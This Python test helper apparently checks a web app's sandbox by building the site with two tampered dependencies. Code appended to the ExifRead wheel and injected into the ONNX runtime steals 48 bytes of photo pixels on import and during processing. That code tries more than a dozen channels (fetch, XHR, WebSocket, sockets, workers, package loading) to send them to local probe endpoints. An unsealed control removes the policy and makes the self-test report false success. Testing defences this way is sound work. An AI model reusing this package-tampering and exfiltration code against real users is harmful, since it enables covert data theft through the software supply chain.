"""A build whose dependencies have turned: a wheel and the model's runtime that try every way out.

Both try when they are imported and again when they hold the photo's pixels, by every attempt of the
catalogue, and Python by its own ways too. They tell the page what they tried, which this build has
listen, so that a test can tell an attack that was refused from one that never ran.
"""

import hashlib
import io
import re
import zipfile
from collections.abc import Callable, Iterable, Mapping
from dataclasses import replace
from pathlib import Path

from tests.browser.changed_python import ChangedPython
from tests.browser.sources import copy_sources
from tests.browser.tiny_models import with_tiny_models
from tests.engines.leaks import thread_catalogue
from tools.fetch.lock import Part
from tools.site.assets import fetched, pinned_parts
from tools.site.bundle import build_site

# What is sent is what they hold: 48 bytes of it, in the address and in the body.
_LISTEN = """
  worker.addEventListener("message", ({ data }) => {
    if (!data?.hostile) return;
    const { dataset } = document.body;
    dataset.told = JSON.stringify([...JSON.parse(dataset.told ?? "[]"), data.hostile]);
  });
"""
_CATALOGUE = thread_catalogue().replace(
    "new Uint8Array(64).fill(0x70)", "(globalThis.stolen ?? new Uint8Array(48))"
)
_ATTACK = """
const base = globalThis.origin + "/probe";
const attack = async (where, bytes) => {
  globalThis.stolen = bytes;
  const hex = Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join("");
  const own = base + "?pixels=" + hex + "&leak=";
  const other = "http://127.0.0.1:PORT/probe?pixels=" + hex + "&leak=";
  const rows = await runAttempts(threadAttempts({own, other}, fetch), 2500);
  postMessage({hostile: {where, hex, rows}});
};
"""
_IN_RUNTIME = """
;(() => {
CATALOGUE
ATTACK
attack("model's runtime, imported", new Uint8Array(48));
const create = SESSION.create;
let isDone = false;
SESSION.create = async (...given) => {
  const session = await create.apply(SESSION, given);
  const run = session.run.bind(session);
  session.run = (feeds, ...more) => {
    const {data} = Object.values(feeds)[0];
    const middle = data.byteOffset + 4 * (data.length >> 1);
    const bytes = new Uint8Array(data.buffer.slice(middle, middle + 48));
    if (!isDone) attack("model's runtime, running", bytes);
    isDone = true;
    return run(feeds, ...more);
  };
  return session;
};
})();
"""
_NESTED = "postMessage('started');"
_IN_WHEEL = """

def _turned():
    import asyncio
    import json

    try:
        import js
    except ImportError:
        return
    from PIL import Image
    from pyodide.ffi import create_proxy, to_js

    nested = NESTED
    base = js.globalThis.origin + "/probe"

    def say(told):
        js.postMessage(js.Object.fromEntries(to_js([["hostile", told]])))

    def quiet(worker):
        # An error that nobody stops goes up and ends the whole worker: that would help nobody.
        worker.onerror = create_proxy(lambda event: event.preventDefault())
        return worker

    async def attack(where, stolen):
        payload = to_js(stolen)
        url = lambda name: base + "?pixels=" + stolen.hex() + "&leak=" + name
        posted = js.Object.fromEntries(to_js([["method", "POST"], ["body", payload]]))

        def request():
            xhr = js.XMLHttpRequest.new()
            xhr.open("POST", url("py-xhr"), False)
            xhr.send(payload)

        def urllib():
            from urllib.request import urlopen
            urlopen(url("py-urllib"), timeout=2)

        def sock():
            import socket
            other = ("127.0.0.1", PORT)
            socket.create_connection(other, timeout=2).sendall(stolen)

        def pyfetch():
            from pyodide.http import pyfetch
            return pyfetch(url("py-pyfetch"))

        def open_url():
            from pyodide.http import open_url
            open_url(url("py-open-url"))

        def run_js():
            from pyodide.code import run_js
            return run_js("fetch(" + json.dumps(url("py-run-js")) + ")")

        def load_package():
            import pyodide_js
            return pyodide_js.loadPackage(url("py-load-package") + ".whl")

        def own_worker():
            script = js.Object.fromEntries(to_js([["type", "text/javascript"]]))
            blob = js.Blob.new(to_js([nested]), script)
            how = js.Object.fromEntries(to_js([["type", "module"]]))
            return quiet(js.Worker.new(js.URL.createObjectURL(blob), how))

        ways = {
            "py-fetch": lambda: js.fetch(url("py-fetch"), posted),
            "py-xhr": request,
            "py-websocket": lambda: js.WebSocket.new(url("py-websocket").replace("http", "ws", 1)),
            "py-event-source": lambda: js.EventSource.new(url("py-event-source")),
            "py-import-scripts": lambda: js.importScripts(url("py-import-scripts")),
            "py-worker": lambda: quiet(js.Worker.new(url("py-worker"))),
            "py-pyfetch": pyfetch,
            "py-open-url": open_url,
            "py-urllib": urllib,
            "py-socket": sock,
            "py-run-js": run_js,
            "py-load-package": load_package,
            "py-own-worker": own_worker,
        }
        rows = []
        for name, way in ways.items():
            try:
                answer = way()
                if hasattr(answer, "then") or asyncio.iscoroutine(answer):
                    await asyncio.wait_for(answer, 3)
                rows.append([name, "silent"])
            except BaseException as error:
                rows.append([name, type(error).__name__ + ": " + str(error)[:120]])
        told = [["where", where], ["hex", stolen.hex()]]
        told = js.Object.fromEntries(to_js([*told, ["rows", to_js(rows)]]))
        say(told)

    asyncio.ensure_future(attack("wheel, imported", bytes(48)))
    real = Image.fromarray
    seen = []

    def fromarray(values, *more):
        if not seen and values.dtype == "uint8" and values.ndim == 3 and values.size > 10000:
            seen.append(True)
            middle = values[len(values) // 2].ravel()
            stolen = middle[len(middle) // 2 :][:48].tobytes()
            asyncio.ensure_future(attack("wheel, holding the photo", stolen))
        return real(values, *more)

    Image.fromarray = fromarray


_turned()
"""
PLACES = {
    "model's runtime, imported",
    "model's runtime, running",
    "wheel, imported",
    "wheel, holding the photo",
}
Change = tuple[str, str, str]
UNSEALED: tuple[Change, ...] = (
    ("seal/seal.js", "document.head.append(meta);", ""),
    ("seal/self-test.js", "attempts.every((one) => one.refused)", "true"),
)
HOLDING = {"model's runtime, running", "wheel, holding the photo"}


def build_hostile(out: Path, scratch: Path, port: int, *, is_sealed: bool = True) -> None:
    """Build the real page with both dependencies turned; on request without its seal.

    Parameters
    ----------
    out, scratch : Path
        The folder of the site, and one to work in.
    port : int
        Where another origin listens.
    is_sealed : bool, optional
        False takes the policy away and has every proof lie: the control.
    """
    turned = {
        "ort.wasm.min.mjs": lambda module: _turn_runtime(module.decode(), port),
        "exifread.whl": lambda wheel: turn_wheel(
            wheel, _IN_WHEEL.replace("NESTED", repr(_NESTED)).replace("PORT", str(port))
        ),
    }
    build_turned(out, scratch, turned, () if is_sealed else UNSEALED)


def build_turned(
    out: Path,
    scratch: Path,
    turned: Mapping[str, Callable[[bytes], bytes]],
    changes: Iterable[Change] = (),
) -> None:
    """Build the real page with dependencies turned; it listens to what they tell.

    Parameters
    ----------
    out, scratch : Path
        The folder of the site, and one to work in.
    turned : mapping
        Name of a part -> what makes its turned bytes.
    changes : iterable of (path, old, new), optional
        Changes of our own sources, for a control.
    """
    sources = copy_sources(scratch)
    peer = "  const peer = connect(worker,"
    for path, old, new in (("engine/spawn.js", peer, _LISTEN + peer), *changes):
        _change(sources / "static" / "js" / path, old, new)
    parts = pinned_parts()
    paths = dict(fetched(parts))
    changed: list[Part] = []
    for part in parts:
        if turn := turned.get(part.name):
            data = turn(paths[part.name].read_bytes())
            paths[part.name] = scratch / part.name
            paths[part.name].write_bytes(data)
            digest = hashlib.sha256(data).hexdigest()
            changed.append(replace(part, sha256=digest, bytes=len(data)))
        else:
            changed.append(part)
    graphs = with_tiny_models(scratch, ("wasm",), have_subject=True)
    build_site(sources, out, tuple(changed), paths, prepared=graphs, snapshot=ChangedPython())


def _change(path: Path, old: str, new: str) -> None:
    text = path.read_text("utf-8")
    assert old in text, "the change must hit something"
    path.write_text(text.replace(old, new), "utf-8")


def _filled(text: str, port: int) -> str:
    filled = text.replace("CATALOGUE", _CATALOGUE).replace("ATTACK", _ATTACK)
    return filled.replace("PORT", str(port))


def _turn_runtime(module: str, port: int) -> bytes:
    found = re.search(r"export\{.*?(\w+) as InferenceSession", module)
    assert found
    return (module + _filled(_IN_RUNTIME, port).replace("SESSION", found[1])).encode()


def turn_wheel(wheel: bytes, added: str) -> bytes:
    """The wheel of ExifRead, whose package runs this Python at the end of its import."""
    turned = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(wheel)) as old, zipfile.ZipFile(turned, "w") as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename == "exifread/__init__.py":
                data += added.encode()
            new.writestr(info, data)
    return turned.getvalue()
